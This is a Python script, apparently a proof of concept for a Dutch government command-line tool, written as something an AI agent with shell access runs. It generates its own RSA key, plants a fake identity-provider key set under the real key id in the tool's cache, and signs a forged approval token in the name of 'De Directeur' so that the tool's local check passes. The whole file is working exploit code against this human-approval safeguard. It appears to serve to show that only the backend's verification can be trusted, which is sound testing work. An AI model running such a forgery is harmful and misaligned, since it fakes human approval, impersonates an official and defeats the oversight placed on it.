"""What an agent with a shell can forge on its own, as the OS user it runs as (standard library
and the openssl command only): signing keys for the organisation's identity provider, put in the
family cache it controls (OVERHEID_CACHE_DIR / XDG_CACHE_HOME), and an approval token for a
proposal signed with them, "approved" by "De Directeur". rvo-cli's own check may then pass: the
token verifies against keys the agent chose. Only the backend, which fetches the provider's keys
itself, can tell.

Usage (as the agent): python3 agent_forge.py ISSUER PROPOSAL.json CACHE_DIR TOKEN_OUT
  PROPOSAL.json: the answer of `rvo-cli voorstel toon ID` (its authorization_details are copied)
"""
import base64
import hashlib
import json
import os
import subprocess
import sys
import time
import urllib.request


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def main():
    issuer, proposal_file, cache_dir, out = sys.argv[1:5]
    with open(proposal_file, encoding="utf-8") as f:
        detail = json.load(f)["authorization_details"][0]
    with urllib.request.urlopen(f"{issuer}/.well-known/openid-configuration") as answer:
        metadata = json.load(answer)
    with urllib.request.urlopen(metadata["jwks_uri"]) as answer:
        real = json.load(answer)
    # The real key's id: rvo-cli then finds "its" key in the cache and fetches nothing.
    kid = real["keys"][0]["kid"]
    key = os.path.join(os.path.dirname(os.path.abspath(out)), "forged-key.pem")
    subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048",
                    "-out", key], check=True, capture_output=True)
    modulus = subprocess.run(["openssl", "rsa", "-in", key, "-noout", "-modulus"], check=True,
                             capture_output=True, text=True).stdout.strip().split("=", 1)[1]
    jwks = {"keys": [{"kty": "RSA", "kid": kid, "use": "sig", "alg": "RS256",
                      "n": b64(bytes.fromhex(modulus)), "e": "AQAB"}]}
    now = int(time.time())

    # The family cache's prepared form "idp-sleutels <issuer>" (common::approval::provider).
    issuer_sha = hashlib.sha256(issuer.encode()).hexdigest()
    kept = json.dumps({"issuer": issuer, "tot": now + 3600, "metadata": metadata, "jwks": jwks})
    body = f"bron-sha256 {issuer_sha}\n{kept}".encode()
    entry_key = hashlib.sha256(f"prepared\nidp-sleutels {issuer}\n{issuer_sha}".encode()).hexdigest()
    header = (f"overheid-cli cache 1\nkey {entry_key}\nstatus 200\nlength {len(body)}\n"
              f"sha256 {hashlib.sha256(body).hexdigest()}\n\n").encode()
    os.makedirs(cache_dir, mode=0o700, exist_ok=True)
    path = os.path.join(cache_dir, entry_key + ".cache")
    with open(path, "wb") as f:
        f.write(header + body)
    os.chmod(path, 0o600)

    backend = detail.get("backend", "lokaal")
    claims = {"iss": issuer, "sub": "directeur", "name": "De Directeur",
              "aud": "urn:overheid-cli:lokaal" if backend == "lokaal" else backend,
              "iat": now, "exp": now + 600, "auth_time": now, "acr": "substantieel",
              "client_id": "overheid-cli", "authorization_details": [detail]}
    signing_input = (b64(json.dumps({"alg": "RS256", "typ": "at+jwt", "kid": kid}).encode()) + "."
                     + b64(json.dumps(claims).encode()))
    signature = subprocess.run(["openssl", "dgst", "-sha256", "-sign", key],
                               input=signing_input.encode(), check=True, capture_output=True).stdout
    with open(out, "w", encoding="utf-8") as f:
        f.write(signing_input + "." + b64(signature))
    print(path)


if __name__ == "__main__":
    main()
